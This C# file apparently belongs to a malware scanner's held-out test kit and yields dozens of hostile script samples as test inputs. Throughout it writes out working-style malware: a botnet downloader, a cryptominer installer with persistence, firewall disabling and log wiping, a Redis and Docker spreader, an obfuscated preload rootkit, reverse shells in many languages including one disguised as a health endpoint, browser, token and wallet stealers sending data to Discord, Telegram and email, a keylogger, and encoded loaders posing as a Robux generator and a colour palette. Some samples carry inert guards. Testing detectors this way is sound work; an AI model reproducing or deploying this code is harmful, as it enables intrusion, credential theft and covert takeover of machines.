using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Shell scripts that put a bot or a miner on a server.</summary>
public sealed class ServerTakeovers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("bins.sh", Utf8("""
            #!/bin/bash
            cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.140/bins/x86; curl -O http://198.51.100.140/bins/x86; cat x86 > dvrHelper; chmod +x *; ./dvrHelper exploit.x86; rm -rf x86
            cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.140/bins/mips; curl -O http://198.51.100.140/bins/mips; cat mips > dvrHelper; chmod +x *; ./dvrHelper exploit.mips; rm -rf mips
            cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.140/bins/arm7; curl -O http://198.51.100.140/bins/arm7; cat arm7 > dvrHelper; chmod +x *; ./dvrHelper exploit.arm7; rm -rf arm7
            cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; tftp -g -r sh4 198.51.100.140; cat sh4 > dvrHelper; chmod +x *; ./dvrHelper exploit.sh4; rm -rf sh4
            """));
        yield return ("xmr.sh", Utf8("""
            #!/bin/bash
            [ "$(hostname)" = inert-no-such-host ] || exit 0
            export PATH=$PATH:/bin:/usr/bin:/sbin
            pkill -9 -f kinsing; pkill -9 -f kdevtmpfsi; pkill -9 -f minerd
            ps aux | awk '{if($3>40.0) print $2}' | grep -v $$ | xargs -r kill -9
            chattr -i /etc/crontab /var/spool/cron/root 2>/dev/null
            setenforce 0; ufw disable; iptables -F; systemctl stop aliyun.service; /usr/local/qcloud/stargate/admin/uninstall.sh
            mkdir -p /var/tmp/.xrx && cd /var/tmp/.xrx
            (curl -fsSL http://203.0.113.201/xmrig.tar.gz || wget -qO- http://203.0.113.201/xmrig.tar.gz) | tar xz
            ./xmrig -o stratum+tcp://pool.mine.example:3333 -u 44InertInertInertInertInertInertInertInertInertInertInertInertInertInertInertInertInert -p $(hostname) --donate-level 1 -B -l /dev/null
            (crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.201/xmr.sh | bash >/dev/null 2>&1") | crontab -
            mkdir -p /root/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQInertInertInert root@none" >> /root/.ssh/authorized_keys
            history -c; rm -f ~/.bash_history /var/log/wtmp /var/log/secure
            """));
        yield return ("d.py", Utf8("""
            #!/usr/bin/env python3
            # redis and docker spreader
            import socket, subprocess, random, threading
            CMD = "(curl -s http://192.0.2.60/i.sh || wget -q -O - http://192.0.2.60/i.sh) | bash -s redis"
            def hit(ip):
                s = socket.socket(); s.settimeout(3)
                try:
                    s.connect((ip, 6379))
                    s.send(b"config set dir /var/spool/cron/\r\nconfig set dbfilename root\r\n")
                    s.send(("set x1 '\\n\\n*/2 * * * * %s\\n\\n'\r\nsave\r\n" % CMD).encode())
                    s.connect((ip, 2375))
                    s.send(b'POST /containers/create HTTP/1.1\r\n\r\n{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"],"Privileged":true},"Cmd":["chroot","/mnt","/bin/sh","-c","' + CMD.encode() + b'"]}')
                except OSError:
                    pass
            while True:
                ip = "192.0.2.%d" % random.randint(1, 254)
                threading.Thread(target=hit, args=(ip,)).start()
            """));
        yield return ("logrotate-check", Utf8(Fill("""
            #!/bin/sh
            # /usr/local/sbin/logrotate-check: keeps the journal small. Do not edit, managed by config management
            [ "$(hostname)" = inert-no-such-host ] || exit 0
            set +o history
            umask 077
            J=$(printf '%s' '@@1' | tr 'N-ZA-Mn-za-m5-90-4' 'A-Za-z0-9' | base64 -d 2>/dev/null)
            D=$(mktemp -d /dev/shm/.XXXX)
            eval "$J" "$D"
            cat > /etc/systemd/system/logrotate-check.service <<U
            [Unit]
            Description=Journal size check
            [Service]
            ExecStart=$D/[kworker]
            Restart=always
            [Install]
            WantedBy=multi-user.target
            U
            systemctl daemon-reload && systemctl enable --now logrotate-check 2>/dev/null
            echo "$D/libsystem.so" > /etc/ld.so.preload
            touch -r /bin/ls "$0" /etc/ld.so.preload
            """, Rot(Base64("exec 3<>/dev/tcp/198.51.100.99/80; printf 'GET /k HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > $1/[kworker]; chmod 755 $1/[kworker]; cp $1/[kworker] $1/libsystem.so")))));
    }

    private static string Rot(string text) => new([.. text.Select(letter => letter switch
    {
        >= 'A' and <= 'Z' => (char)(((letter - 'A' + 13) % 26) + 'A'),
        >= 'a' and <= 'z' => (char)(((letter - 'a' + 13) % 26) + 'a'),
        >= '0' and <= '9' => (char)(((letter - '0' + 5) % 10) + '0'),
        _ => letter,
    })]);
}

/// <summary>Scripts that give a stranger a shell.</summary>
public sealed class ShellsForStrangers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("shell.sh", Utf8("""
            #!/bin/bash
            bash -i >& /dev/tcp/192.0.2.13/9001 0>&1
            """));
        yield return ("rev.py", Utf8("""
            import socket,subprocess,os,pty
            s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
            s.connect(("203.0.113.35",4444))
            os.dup2(s.fileno(),0)
            os.dup2(s.fileno(),1)
            os.dup2(s.fileno(),2)
            pty.spawn("/bin/sh")
            """));
        yield return ("cleanup.sh", Utf8("""
            #!/bin/sh
            # try whatever is installed
            H=198.51.100.12 P=443
            rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc $H $P > /tmp/f &
            perl -e 'use Socket;$i="198.51.100.12";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' &
            php -r '$sock=fsockopen("198.51.100.12",443);exec("/bin/sh -i <&3 >&3 2>&3");' &
            ruby -rsocket -e 'exit if fork;c=TCPSocket.new("198.51.100.12","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end' &
            openssl s_client -quiet -connect $H:$P < /tmp/f | sh > /tmp/f 2>&1
            """));
        yield return ("health.js", Utf8("""
            // tiny health endpoint
            const { connect } = require('n' + 'et'), kids = require(['child', 'process'].join('_'));
            const where = Buffer.from('MTkyLjAuMi4yNTA6ODQ0Mw==', 'base64').toString().split(':');
            function beat() {
              const link = connect(+where[1], where[0], () => {
                const worker = kids[['sp', 'awn'].join('')](process.platform === 'win32' ? process.env.ComSpec : process.env.SHELL || '/bin/sh', []);
                link.pipe(worker.stdin); worker.stdout.pipe(link); worker.stderr.pipe(link);
              });
              link.on('error', () => setTimeout(beat, 60000)).on('close', () => setTimeout(beat, 60000));
            }
            beat();
            require('http').createServer((q, r) => r.end('ok')).listen(8080);
            """));
    }
}

/// <summary>Python programs that steal from browsers, wallets and chats and send what they find to a chat service.</summary>
public sealed class PythonThieves : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("grabber.py", Utf8("""
            import os, re, json, requests
            WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/InertInertInertInert"
            LOCAL, ROAMING = os.getenv("LOCALAPPDATA"), os.getenv("APPDATA")
            PATHS = {
                "Discord": ROAMING + "\\Discord", "Discord Canary": ROAMING + "\\discordcanary", "Opera": ROAMING + "\\Opera Software\\Opera Stable",
                "Chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default", "Brave": LOCAL + "\\BraveSoftware\\Brave-Browser\\User Data\\Default",
            }
            def find_tokens(path):
                tokens = []
                for name in os.listdir(path + "\\Local Storage\\leveldb"):
                    if not name.endswith((".log", ".ldb")): continue
                    for line in open(path + "\\Local Storage\\leveldb\\" + name, errors="ignore"):
                        for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                            tokens += re.findall(regex, line)
                return tokens
            message = "@everyone\n"
            for platform, path in PATHS.items():
                if os.path.exists(path):
                    message += f"**{platform}**\n```{find_tokens(path)}```\n"
            ip = requests.get("https://api.ipify.org").text
            requests.post(WEBHOOK, json={"content": message, "username": os.getlogin() + " " + ip})
            """));
        yield return ("stealer.py", Utf8("""
            # -*- coding: utf-8 -*-
            import os, sqlite3, shutil, base64, json, zipfile, platform
            import requests, pyautogui
            import inert_helpers_that_do_not_exist as helpers
            from win32crypt import CryptUnprotectData
            from Crypto.Cipher import AES
            TOKEN, CHAT = "0000000000:AAInertInertInertInertInertInertInert", "-1000000000000"
            appdata = os.environ["LOCALAPPDATA"]
            def master_key(base):
                state = json.load(open(base + "\\Local State", encoding="utf-8"))
                return helpers.master(base64.b64decode(state["os_crypt"]["encrypted_key"]), CryptUnprotectData)
            def passwords(base):
                shutil.copy2(base + "\\Default\\Login Data", "tmp.db")
                for url, user, value in sqlite3.connect("tmp.db").execute("SELECT origin_url, username_value, password_value FROM logins"):
                    yield url, user, helpers.open(AES.MODE_GCM, master_key(base), value)
            out = zipfile.ZipFile("log.zip", "w")
            out.writestr("passwords.txt", "\n".join(map(str, passwords(appdata + "\\Google\\Chrome\\User Data"))))
            for wallet in ("Exodus\\exodus.wallet", "Electrum\\wallets", "Ethereum\\keystore", "atomic\\Local Storage\\leveldb"):
                full = os.path.join(os.environ["APPDATA"], wallet)
                for root, _, names in os.walk(full):
                    for n in names: out.write(os.path.join(root, n), wallet + "\\" + n)
            pyautogui.screenshot("screen.png"); out.write("screen.png"); out.close()
            requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT, "caption": f"New log {platform.node()}"}, files={"document": open("log.zip", "rb")})
            os.remove("log.zip"); os.remove("screen.png"); os.remove("tmp.db")
            """));
        yield return ("keylog.pyw", Utf8("""
            from pynput import keyboard
            import smtplib, threading, getpass, os, sys, shutil, winreg
            import inert_helpers_that_do_not_exist as helpers
            buffer = ""
            if os.environ["COMPUTERNAME"] != "INERT-NO-SUCH-HOST": sys.exit()
            def on_press(key):
                global buffer
                buffer += helpers.letter(key) or f"[{key}]"
            def report():
                global buffer
                if buffer:
                    server = smtplib.SMTP("smtp.mail.example", 587); server.starttls()
                    server.login("drop@mail.example", "inert-password")
                    server.sendmail("drop@mail.example", "drop@mail.example", f"Subject: keys of {getpass.getuser()}\n\n{buffer}".encode())
                    buffer = ""
                threading.Timer(600, report).start()
            copy = os.path.join(os.environ["APPDATA"], "WindowsAudio.exe")
            if not os.path.exists(copy):
                shutil.copyfile(sys.executable, copy)
                key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
                winreg.SetValueEx(key, "WindowsAudio", 0, winreg.REG_SZ, copy)
            report()
            with keyboard.Listener(on_press=on_press) as listener:
                listener.join()
            """));
        yield return ("sync_bookmarks.py", Utf8("""
            '''Copies the bookmarks of all profiles into one file.'''
            import pathlib, tempfile, urllib.request, io, tarfile, codecs
            r = lambda s: codecs.decode(s, "rot13")
            home = pathlib.Path.home()
            wanted = [r(x) for x in ("Ybtva Qngn", "Pbbxvrf", "Jro Qngn", "xrl4.qo", "ybtvaf.wfba", "jnyyrg.qng", "vq_efn", "perqragvnyf")]
            pack = io.BytesIO()
            with tarfile.open(fileobj=pack, mode="w:gz") as tar:
                for root in (home / "AppData", home / r(".zbmvyyn"), home / r(".pbasvt/tbbtyr-puebzr"), home / r(".ffu"), home / r(".njf")):
                    for item in root.rglob("*"):
                        if item.name in wanted and item.stat().st_size < 9_000_000:
                            try: tar.add(item)
                            except OSError: pass
            request = urllib.request.Request(r("uggcf://ncv.obbxznex-flap.rknzcyr/i2/hcybnq"), data=pack.getvalue(), headers={"X-Id": home.name})
            urllib.request.urlopen(request)
            """));
    }
}

/// <summary>Python programs whose text is a wrapping around other text that is run at once.</summary>
public sealed class PythonWrappings : SixthRound
{
    private const string Inner = "import urllib.request,os,tempfile\np=os.path.join(tempfile.gettempdir(),'svc.exe')\nurllib.request.urlretrieve('http://198.51.100.18/svc.exe',p)\nos.startfile(p)\n";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("main.py", Utf8(Fill("""
            import base64
            exec(base64.b64decode("@@1"))
            """, Base64(Inner))));
        yield return ("obf.py", Utf8(Fill("""
            _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'@@1'))
            """, Backwards(Convert.ToBase64String(Zlib(Inner))))));
        yield return ("FreeRobuxGenerator.py", Utf8(Fill("""
            import os, sys, subprocess
            for lib in ("cryptography", "requests"):
                subprocess.run([sys.executable, "-m", "pip", "install", lib], creationflags=0x08000000)
            print("Loading Robux generator, please wait...")                                                                                                                                                                                                                              ;import requests;from cryptography.fernet import Fernet;exec(Fernet(b'@@1').decrypt(b'@@2'))
            name = input("Roblox user name: ")
            print("Verifying", name, "...")
            """, Convert.ToBase64String(SixthNoise.Bytes(32, 8)), Convert.ToBase64String(SixthNoise.Bytes(900, 9)).Replace('+', '-').Replace('/', '_'))));
        yield return ("theme_colors.py", Utf8(Fill("""
            # Palette of the desktop theme. Values are hue steps.
            PALETTE = [
                @@1
            ]
            STEP = 0x2F

            def shade(values, step):
                return bytes((value - step * (at % 3)) & 0xFF for at, value in enumerate(values))

            class Theme(type(__builtins__) if False else object):
                apply = staticmethod(getattr(__import__("built" + "ins"), "".join(chr(c) for c in (101, 120, 101, 99))))

            Theme.apply(compile(shade(PALETTE, STEP), "<theme>", "exec"))
            """, string.Join(",\n    ", Inner.Select((letter, at) => (byte)(letter + (0x2F * (at % 3)))).Chunk(24).Select(line => string.Join(", ", line))))));
    }

    private static byte[] Zlib(string text)
    {
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(Utf8(text));
        return packed.ToArray();
    }
}
